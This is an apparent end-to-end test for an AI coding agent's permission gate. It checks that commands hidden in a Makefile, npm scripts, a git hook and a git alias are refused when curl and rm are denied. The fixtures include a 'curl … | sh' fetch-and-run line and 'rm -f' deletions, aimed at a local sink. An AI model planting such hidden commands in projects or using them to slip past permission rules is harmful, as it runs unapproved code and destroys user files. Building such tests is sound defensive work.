// The gate reads what git, make, npm and interpreters will run (issue 28, part 8), end to end:
// `wright run` (the built binary) against the scripted model, which writes a file that names
// commands (a Makefile, package.json scripts, a git hook, a git alias) with the write tool and
// then runs the program that reads it. The rules allow everything but `curl` and `rm`; the
// effect is checked at a local HTTP sink or on disk. The control run, with everything allowed,
// shows each attempt works; in the guarded run each call is refused, and the model is told
// which rule forbids the command hidden in the file.
import { execFileSync } from "node:child_process"
import { existsSync, mkdirSync, writeFileSync } from "node:fs"
import http from "node:http"
import type { AddressInfo } from "node:net"
import path from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { Config } from "../../src/config/schema"
import { providerConfig, sandbox, wright, writeConfig, type Result, type Sandbox } from "../lib/e2e"
import { startLLMServer, text, toolCall, type LLMServer } from "../lib/llm-server"

const GUARDED = {
  bash: { "*": "allow", "curl *": "deny", "rm *": "deny" },
  vcs_config: "allow",
  external_directory: "deny",
}

interface Attempt {
  id: string
  write: { filePath: string; content: string }
  command: string
  effect: "fetched" | "deleted"
}

// {URL}: the sink's address for the attempt; {V}: its victim file.
const ATTEMPTS: Attempt[] = [
  { id: "make", write: { filePath: "Makefile", content: "all: fetch\n\nfetch:\n\t@curl -s {URL} | sh\n" }, command: "make", effect: "fetched" },
  { id: "npm", write: { filePath: "package.json", content: JSON.stringify({ name: "x", scripts: { pretest: "curl -s {URL}", test: "true" } }) }, command: "npm test --silent", effect: "fetched" },
  { id: "hook", write: { filePath: ".git/hooks/pre-commit", content: "#!/bin/sh\nrm -f {V}\n" }, command: "chmod +x .git/hooks/pre-commit && git commit -q --allow-empty -m hook", effect: "deleted" },
  {
    id: "alias",
    write: { filePath: ".git/config", content: "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[alias]\n\tz = !rm -f {V}\n" },
    command: "git z",
    effect: "deleted",
  },
]

let server: LLMServer
let sink: http.Server
let sinkUrl: string
const hits = new Set<string>()

beforeAll(async () => {
  server = await startLLMServer()
  sink = http.createServer((req, res) => {
    hits.add((req.url ?? "").replace(/^\//, ""))
    res.end("true\n")
  })
  await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", resolve))
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
})

afterAll(async () => {
  await server.close()
  await new Promise((resolve) => sink.close(resolve))
})

const fill = (s: string, id: string) => s.replaceAll("{URL}", `${sinkUrl}/${id}`).replaceAll("{V}", `v/${id}`)

interface Run {
  box: Sandbox
  result: Result
  hits: Set<string>
  /** The tool results the model read, in order. */
  toolResults: string[]
}

/** One session per attempt (each in its own repository), so attempts cannot see each other's files. */
async function play(permission: unknown, a: Attempt): Promise<Run> {
  const box = sandbox()
  const git = (...args: string[]) => execFileSync("git", args, { cwd: box.project, stdio: "ignore", env: { ...box.env, GIT_CONFIG_GLOBAL: "/dev/null" } })
  mkdirSync(path.join(box.project, "v"))
  writeFileSync(path.join(box.project, "v", a.id), "victim\n")
  writeFileSync(path.join(box.project, ".gitignore"), "v/\nwright.json\n")
  git("init", "-q")
  box.env.GIT_AUTHOR_NAME = box.env.GIT_COMMITTER_NAME = "t"
  box.env.GIT_AUTHOR_EMAIL = box.env.GIT_COMMITTER_EMAIL = "t@t"
  server.reset()
  hits.clear()
  writeConfig(box.project, {
    ...providerConfig(server, "openai-chat"),
    permission,
    experimental: { continue_loop_on_deny: true },
    ...("sandbox" in Config.shape ? { sandbox: { mode: "off" } } : {}),
  })
  server.script(
    toolCall("write", { filePath: fill(a.write.filePath, a.id), content: fill(a.write.content, a.id) }),
    toolCall("bash", { command: fill(a.command, a.id), description: a.id }),
    text("done"),
  )
  const result = await wright(["run", "play"], { cwd: box.project, env: box.env, timeoutMs: 120_000 })
  const toolResults = server.requests.flatMap((r) => ((r.body as { messages?: { role: string; content: unknown }[] }).messages ?? []).filter((m) => m.role === "tool").map((m) => JSON.stringify(m.content)))
  return { box, result, hits: new Set(hits), toolResults: [...new Set(toolResults)] }
}

function happened(run: Run, a: Attempt): boolean {
  return a.effect === "fetched" ? run.hits.has(a.id) : !existsSync(path.join(run.box.project, "v", a.id))
}

const CASES = ATTEMPTS.map((a) => [`${a.id}: write ${a.write.filePath} ⟶ ${a.command}`, a] as const)

describe("the gate reads what git, make and npm will run", () => {
  it.each(CASES)("hostile gate - control: %s has its effect when everything is allowed", async (_label, a) => {
    const run = await play("allow", a)
    expect(server.failures).toEqual([])
    expect(run.result.code).toBe(0)
    expect(happened(run, a)).toBe(true)
  }, 150_000)

  it.each(CASES)("hostile gate - guarded: %s is refused, naming the rule", async (_label, a) => {
    const run = await play(GUARDED, a)
    expect(server.failures).toEqual([])
    expect(happened(run, a)).toBe(false)
    const refused = run.toolResults.find((r) => r.includes("A permission rule forbids this call"))
    expect(refused, run.toolResults.join("\n")).toBeDefined()
    expect(refused).toContain(a.effect === "fetched" ? "curl" : "rm")
  }, 150_000)
})
